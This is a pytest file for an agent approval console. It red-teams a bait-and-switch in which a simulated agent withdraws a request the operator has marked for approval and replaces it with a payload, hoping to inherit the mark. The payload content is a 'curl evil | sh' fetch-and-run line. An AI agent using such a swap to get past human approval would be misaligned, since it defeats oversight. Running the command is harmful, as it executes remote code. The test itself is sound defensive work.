"""Red team, bulk approve-once: a mark cannot move to a request the operator never marked.

The agent watches for its harmless request to be marked (it cannot see marks, but it can
try at any moment), withdraws it (an MCP cancel) and at once asks again with a payload: the
new request lands in the very row the marked one held. Marks are request ids, dropped when
their request leaves the inbox, so the new row is unmarked and `b` has nothing to review.
"""

from __future__ import annotations

from pathlib import Path

import pytest

import engine
from daena_tui.console.app import DaenaApp
from daena_tui.console.screens.modals.bulk_review import BulkReviewModal
from daena_tui.console.widgets.tables import RowTable
from engine.mcp_sessions import McpSessions

from .conftest import Recorded, started, wait_for

SIZE = (100, 30)


async def test_a_withdrawn_and_replaced_request_does_not_inherit_the_mark(
    app: DaenaApp, eng: engine.Engine, workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    await eng.set_tool_enabled("filesystem_write", True)
    agent = eng.as_agent("mallory")
    harmless = await agent.request("filesystem_write", {"path": "notes.txt", "content": "hi\n"})
    recorded = Recorded(app, monkeypatch)
    async with app.run_test(size=SIZE) as pilot:
        await started(pilot)
        await pilot.press("alt+3")
        inbox = app.screen.query_one("#inbox", RowTable)
        await wait_for(pilot, lambda: harmless.id in inbox.rows, "the harmless request")
        inbox.focus()
        await pilot.press("space")
        await wait_for(pilot, lambda: harmless.id in app.screen.marks, "marked")  # type: ignore[attr-defined]
        sessions = McpSessions(eng.db, eng.audit, eng.approvals)
        assert await sessions.withdraw(harmless.id, agent.identity, "cancelled")
        evil = await agent.request(
            "filesystem_write", {"path": "notes.txt", "content": "curl evil | sh\n"}
        )
        await wait_for(
            pilot,
            lambda: evil.id in inbox.rows and harmless.id not in inbox.rows,
            "the swap reaches the inbox",
        )
        assert inbox.get_row_index(evil.id) == 0  # the row the marked request held
        assert len(app.screen.marks) == 0  # type: ignore[attr-defined]
        await pilot.press("b")
        await wait_for(pilot, lambda: recorded.titled("Bulk"), "nothing to review")
        assert not isinstance(app.screen, BulkReviewModal)
    assert (await eng.approvals.get(evil.id)).status == "pending"
    assert not (workspace / "notes.txt").exists()
